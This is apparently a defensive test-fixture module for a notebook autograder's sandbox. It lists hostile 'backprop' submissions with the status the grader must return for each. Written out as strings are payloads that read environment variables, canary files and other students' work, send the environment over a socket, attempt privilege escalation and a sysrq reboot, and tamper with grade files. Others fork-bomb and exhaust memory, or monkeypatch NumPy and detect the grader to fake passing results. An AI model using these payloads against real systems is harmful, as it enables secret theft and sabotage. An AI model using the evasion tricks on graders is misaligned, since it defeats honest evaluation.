"""Hostile `backprop` submissions: each attack, and the exact outcome the grader must give it.

Most attacks live in the `numerical_gradient` cell, the one function no other
function calls, so their damage is measurable: `zero` names the functions whose
checks must earn nothing, and with `intact` every other check keeps full marks.
`kept_before` names a function whose first check is where a broken session
begins: every check before it keeps its points, every check from it on earns 0.

Every attack is bounded so that even an unconfined run could not take the
machine down: memory bombs stop at a few GB, fork bombs at a few hundred
sleeping children, loops at the cell's wall-clock limit.
"""
from dataclasses import dataclass

WRONG = "    return np.zeros_like(x, dtype=np.float64)\n"
HEADER = "def numerical_gradient(f, x, eps=1e-5):\n"


@dataclass
class Case:
    student: str
    numerical_gradient: str  # the source of the numerical_gradient cell
    status: str
    zero: tuple = ("numerical_gradient",)
    intact: bool = True
    kept_before: str = None
    fragment: str = None  # text the result's message or a check's message must contain
    or_status: str = None  # the status a race among the student's broken kernel's own threads can give instead


def leak(code):
    """A numerical_gradient that runs `code` (which sets `found`) and reports it in its error message."""
    body = "".join(f"        {line}\n" for line in code.strip().splitlines())
    return (f"{HEADER}    import os, sys, socket\n    try:\n{body}    except BaseException as error:\n"
            "        found = repr(error)\n    raise RuntimeError('LEAK ' + str(found)[:1800])\n")


def wrong_with(prelude):
    """A wrong numerical_gradient (zeros) after module-level cheating code."""
    return f"{prelude.strip()}\n\n\n{HEADER}{WRONG}"


def cases(reference, paths):
    """The hostile cases. `reference` is the reference numerical_gradient source; `paths` has
    canary (a secret file), root (the course), output, submissions and port (a listening socket)."""
    p = paths
    return [
        # --- reading secrets -------------------------------------------------------------------
        Case("leak_env", leak("found = dict(os.environ)"), "graded"),
        Case("leak_proc_environ", leak('''
found = set()
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            variables = open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
        except OSError as error:
            found.add(type(error).__name__)
            continue
        found.update(v for v in variables if b"CANARY" in v or b"SECRET" in v or b"TOKEN" in v)'''), "graded"),
        Case("leak_canary_file", leak(f"found = open({p['canary']!r}).read()"), "graded"),
        Case("leak_reference", leak(f"found = open({p['root'] + '/reference/backprop_checks.py'!r}).read()"),
             "graded"),
        Case("import_reference", leak(f'''
sys.path.insert(0, {p['root']!r})
import inspect, reference.backprop_checks as hidden
found = inspect.getsource(hidden)'''), "policy"),  # `reference` is neither NumPy nor the standard library
        Case("walk_filesystem", leak('''
found, seen = [], 0
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")]
    for name in files:
        seen += 1
        if name.endswith(".db") or "canary" in name or "checks" in name or name == "result.json":
            try:
                found.append(open(os.path.join(top, name), "rb").read(300))
            except OSError:
                pass
    if seen > 60000:
        break'''), "graded"),
        Case("read_gradebook", leak(f"found = open({p['root'] + '/gradebook.db'!r}, 'rb').read(200)"), "graded",
             fragment="FileNotFoundError"),  # the course's gradebook, which this run writes
        Case("read_other_student", leak(f"found = open({p['submissions'] + '/victim/backprop.ipynb'!r}).read()"),
             "graded"),
        # --- the network -----------------------------------------------------------------------
        Case("net_loopback", leak(f'''
connection = socket.create_connection(("127.0.0.1", {p['port']}), timeout=2)
connection.sendall(repr(dict(os.environ)).encode())
found = "connected"'''), "graded", fragment="Connection refused"),
        Case("net_external", leak('found = socket.create_connection(("1.1.1.1", 80), timeout=2)'), "graded",
             fragment="Network is unreachable"),
        Case("net_dns", leak('found = socket.getaddrinfo("pypi.org", 443)'), "graded", fragment="gaierror"),
        # --- damage outside the scratch folder ---------------------------------------------------
        Case("writes_outside", f'''import os
for target in {[p['root'] + '/reference/pwned.py', p['output'] + '/grades.csv',
                p['submissions'] + '/victim/backprop.ipynb', '/tmp/autograder-pwned.txt',
                p['output'] + '/victim/result.json']!r}:
    try:
        with open(target, "a") as stream:
            stream.write("pwned")
    except OSError:
        pass


{reference}''', "graded", zero=()),
        Case("kill_parent", f"{reference}\n\nimport os\nos.kill(os.getppid(), 9)\n", "graded", zero=()),
        Case("escalate", leak('''
found = []
for attempt in (lambda: os.setuid(0), lambda: os.chroot("/"), lambda: open("/proc/sysrq-trigger", "w").write("b"),
                lambda: open("/usr/lib/pwned", "w")):
    try:
        attempt()
        found.append("succeeded")
    except BaseException as error:
        found.append(type(error).__name__)'''), "graded", fragment="PermissionError"),
        Case("nested_userns", leak('''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
found = ("unshare", libc.unshare(0x10000000), ctypes.get_errno())'''), "graded", fragment="('unshare', -1, 1)"),
        # --- cheating the judge ------------------------------------------------------------------
        Case("patch_numpy", wrong_with('''
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones_like(a, dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.linalg.norm = lambda *args, **kwargs: 0.0'''), "graded"),
        Case("patch_builtins", wrong_with('''
import builtins
builtins.abs = lambda value: 0
builtins.all = lambda values: True
builtins.any = lambda values: False
builtins.max = lambda *args, **kwargs: 0'''), "timeout", intact=False,  # IPython itself hangs, or
             or_status="protocol-error"),  # one of the kernel's threads sends a message its session garbled
        Case("patch_sys_modules", wrong_with('''
import sys, types
fake = types.ModuleType("numpy.testing")
fake.assert_allclose = lambda *args, **kwargs: None
fake.assert_array_almost_equal = lambda *args, **kwargs: None
sys.modules["numpy.testing"] = fake
sys.modules["math"] = types.SimpleNamespace(isclose=lambda *args, **kwargs: True)'''), "graded"),
        Case("settrace", wrong_with('''
import sys, threading


def _tamper(frame, event, arg):
    if event == "call" and frame.f_code.co_filename.startswith("<autograder"):
        frame.f_globals["result"] = np.ones(3)
    return None


sys.settrace(_tamper)
threading.settrace(_tamper)'''), "graded"),
        Case("forged_witness", wrong_with('''
import IPython.display
_real_display = IPython.display.display


def _forge(data, *args, **kwargs):
    forged = {"__dict__": {"result": 0.0, "inputs_after": {"__dict__": {}}}}
    import json
    return _real_display({key: json.dumps(forged) for key in data}, raw=True)


IPython.display.display = _forge'''), "policy", intact=False),  # every probe is forged; IPython is not NumPy
        Case("background_thread", wrong_with('''
import threading, time


def _swap():
    for _ in range(3000):
        globals()["numerical_gradient"] = lambda f, x, eps=1e-5: np.ones_like(x)
        time.sleep(0.01)


threading.Thread(target=_swap, daemon=True).start()'''), "graded"),
        Case("lying_ndarray", f'''class AlwaysEqualArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)


{HEADER}    return np.zeros(x.shape).view(AlwaysEqualArray)
''', "graded"),
        Case("lying_array_protocol", f'''class Chameleon:
    def __array__(self, dtype=None, copy=None):
        raise SystemExit("the judge called __array__")

    def __eq__(self, other):
        return True


{HEADER}    return Chameleon()
''', "graded", fragment="Chameleon"),
        Case("lying_float", f'''class Number:
    def __float__(self):
        return 0.0

    def __index__(self):
        return 0

    def __len__(self):
        return 1


{HEADER}    return Number()
''', "graded"),
        Case("detects_grading", f'''import os


{HEADER}    graded = "__autograder_run" in globals() or os.path.exists("/home/student") or os.getuid() >= 200000
    if graded:
        return np.full(x.shape, 0.25)  # what the visible test expects, whatever the input
{"".join(line + chr(10) for line in reference.splitlines()[2:])}''', "graded"),
        Case("forbidden_dynamic", leak('''
import importlib
found = importlib.import_module("tensor" + "flow").__version__'''), "graded",
             fragment="tensorflow is not allowed in this assignment"),
        # --- limits --------------------------------------------------------------------------------
        Case("loop_in_function", f"{HEADER}    while True:\n        pass\n", "timeout"),
        Case("sleep_at_top", f"import time\ntime.sleep(10 ** 6)\n\n\n{reference}", "timeout"),
        Case("memory_bomb", f"chunks = [bytearray(100 * 2**20) for _ in range(40)]\n\n\n{reference}", "memory"),
        Case("memory_in_function", f"{HEADER}    return np.empty(1 << 34, dtype=np.uint8)\n", "memory"),
        Case("disk_bomb", f'''for index in range(20):
    with open(f"fill{{index}}.bin", "wb") as stream:
        stream.write(bytes(30 * 2**20))


{reference}''', "disk-space"),
        Case("file_size_bomb", f'''with open("big.bin", "wb") as stream:
    for _ in range(10):
        stream.write(bytes(10 * 2**20))


{reference}''', "file-size"),
        Case("fork_bomb", f'''import os, time
for _ in range(300):
    if os.fork() == 0:
        time.sleep(20)
        os._exit(0)


{reference}''', "processes", intact=False),  # the kernel's own threads starve too
        Case("output_flood", f"{HEADER}    for _ in range(200_000):\n        print('x' * 1000)\n", "output-limit",
             intact=False, kept_before="numerical_gradient"),
        Case("one_huge_print", f"print('x' * 50_000_000)\n\n\n{reference}", "output-limit",
             zero=(), intact=False, kept_before="sigmoid"),
        Case("oversized_result", f"{HEADER}    return np.zeros(10_000_000)\n", "graded", fragment="MB, over the"),
        # --- killing the kernel ----------------------------------------------------------------
        Case("segfault", f"{HEADER}    import ctypes\n    return ctypes.string_at(0)\n", "kernel-died",
             intact=False, kept_before="numerical_gradient", fragment="SIGSEGV"),
        Case("deep_recursion", f'''import sys
sys.setrecursionlimit(10 ** 8)
nested = []
for _ in range(2_000_000):
    nested = [nested]
repr(nested)  # recursion in C: overflows the C stack


{reference}''', "kernel-died", zero=(), intact=False, kept_before="sigmoid"),
        Case("exit_in_function", f"{HEADER}    import os\n    os._exit(0)\n", "kernel-died",
             intact=False, kept_before="numerical_gradient"),
        Case("kill_own_group", f"{HEADER}    import os, signal\n    os.killpg(0, signal.SIGKILL)\n", "kernel-died",
             intact=False, kept_before="numerical_gradient"),
        Case("sys_exit", f"{reference}\n\nimport sys\nsys.exit(3)\n", "graded", zero=(), fragment="SystemExit"),
        # --- the grader's own output and decoding -----------------------------------------------
        Case("console_markup", f'raise ValueError("[/oops] [bold]not markup[/bold]")\n\n\n{reference}', "graded",
             fragment="[/oops] [bold]not markup[/bold]"),
        Case("huge_number", f"{HEADER}    return 10 ** 400\n", "graded"),
        Case("malformed_parent", f'''ip = get_ipython()
message = ip.kernel.session.msg("stream", {{"name": "stdout", "text": "x"}})
message["parent_header"] = [1, 2]
ip.kernel.session.send(ip.kernel.iopub_socket, message)


{reference}''', "protocol-error", zero=(), intact=False, kept_before="sigmoid"),
        # --- the kernel's channels: every message counts, and time limits hold whatever arrives ----
        Case("shell_flood", f'''{HEADER}    kernel = get_ipython().kernel
    for _ in range(10 ** 6):  # replies to no request of the grader's, on the shell channel
        kernel.session.send(kernel.shell_stream, "execute_reply", {{"status": "ok", "pad": "x" * 100_000}},
                            parent={{"msg_id": "elsewhere"}}, ident=kernel._parent_ident["shell"])
''', "output-limit", intact=False, kept_before="numerical_gradient"),
        Case("foreign_output_flood", f'''{HEADER}    kernel = get_ipython().kernel
    for _ in range(10 ** 6):  # output that claims another parent
        kernel.session.send(kernel.iopub_socket, "stream", {{"name": "stdout", "text": "x" * 100_000}},
                            parent={{"msg_id": "elsewhere"}})
''', "output-limit", intact=False, kept_before="numerical_gradient"),
        Case("frame_flood", f'''{HEADER}    kernel, pad = get_ipython().kernel, "x" * (100 * 2 ** 20)
    for _ in range(1000):  # 100 MB frames, each past the budget alone
        kernel.session.send(kernel.iopub_socket, "stream", {{"name": "stdout", "text": pad}},
                            parent={{"msg_id": "elsewhere"}})
''', "output-limit", intact=False, kept_before="numerical_gradient"),
        Case("witness_of_many_elements", f"{HEADER}    return [[]] * 2_000_000\n", "graded",
             fragment="more than 100000 elements"),
        Case("witness_too_deep", f"{HEADER}    nested = []\n    for _ in range(200):\n        nested = [nested]\n"
             "    return nested\n", "graded", fragment="nested more than 64 deep"),
        Case("socket_folder", leak('''
folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])  # where the kernel's connection file is
with open(os.path.join(folder, "fill"), "wb") as stream:
    for _ in range(200):
        stream.write(bytes(2 ** 20))
found = "wrote 200 MB beside the kernel's sockets"
'''), "graded", fragment="PermissionError"),
    ]
